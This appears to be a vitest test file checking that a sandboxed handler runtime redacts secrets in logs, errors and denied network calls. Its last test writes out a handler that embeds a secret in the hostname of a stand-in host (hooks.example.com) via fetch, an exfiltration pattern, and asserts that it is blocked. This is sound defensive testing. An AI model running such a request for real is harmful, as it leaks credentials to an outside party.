import { expect, it } from 'vitest'
import { handler, openRuntime } from '../runtimes.js'

const runtime = openRuntime({ threads: 0 })

/** Values whose characters are escaped, quoted or parted when they are shown. */
const SECRETS = {
  control: 'top\u001bsecret\u007fvalue',
  quotes: `it's a "secret" \`value\``,
  mixed: 'p\u00e9ss"w\\ord\u{1f600}x',
  lines: `-----BEGIN KEY-----\n${'abcdefgh'.repeat(8)}\n${'ijklmnop'.repeat(8)}\n-----END KEY-----`,
  tabs: 'one\ttwo\rthree',
  lone: 'half-\ud83d-pair',
}

/** Ways to show it, in which nothing of the value may be left. */
const WAYS = {
  'a field of an object': 'console.log({ S })',
  'a deep field': 'console.dir({ a: { b: [S] } }, { depth: 9 })',
  'a table': 'console.table([{ S }])',
  'a Map in fields': 'ctx.log.info("x", { map: new Map([["k", S]]) })',
  'a key of a Map': 'console.log(new Map([[S, 1]]))',
  'a key of an object': 'console.log({ [S]: 1, n: 1n })',
  'an error': 'console.error(new Error("got " + S))',
  'a cause': 'ctx.log.error("x", new Error("a", { cause: { S } }))',
  'a format': 'console.log("%o %s %j", { S }, S, { S })',
  'a Set in a long list': 'console.log(new Set([S, ...Array(50).keys()]))',
}

it.each(
  Object.entries(SECRETS).flatMap(([kind, secret]) =>
    Object.entries(WAYS).map(([what, code]) => [kind, what, code, secret] as const),
  ),
)('hides a secret with %s in %s', async (_kind, _what, code, secret) => {
  const { logs, error } = await runtime.executeHandler(
    handler(`const { S } = ctx.secrets; ${code}`),
    {
      event: null,
      secrets: { S: secret },
    },
  )
  expect(error).toBeUndefined()
  const text = JSON.stringify(logs)
  expect(text).toContain('[secret S]')
  const rest = text.replaceAll('[secret S]', '')
  for (const piece of secret.split(/[^\w-]+/).filter((one) => one.length >= 4)) {
    expect(rest).not.toContain(piece)
  }
})

it('hides the piece of a secret that JSON.parse could not read', async () => {
  for (const S of [
    'eyJhbGciOiJIUzI1NiJ9.abc.def',
    'AKIA1234ABCD/secretpart',
    'nullable-key-1234',
  ]) {
    const { error } = await runtime.executeHandler(handler('JSON.parse(ctx.secrets.S)'), {
      event: null,
      secrets: { S },
    })
    for (const piece of S.split(/[^\w]+/).filter((one) => one.length >= 4)) {
      expect(JSON.stringify(error)).not.toContain(piece)
    }
  }
})

it('hides a secret in the host of a URL that is not granted', async () => {
  const { error } = await runtime.executeHandler(
    handler('await fetch("https://" + ctx.secrets.S + ".hooks.example.com/")'),
    { event: null, secrets: { S: 'XoxB-1234-AbCd' } },
  )
  expect(error?.code).toBe('PERMISSION_DENIED')
  expect(JSON.stringify(error).toLowerCase()).not.toContain('xoxb-1234')
})
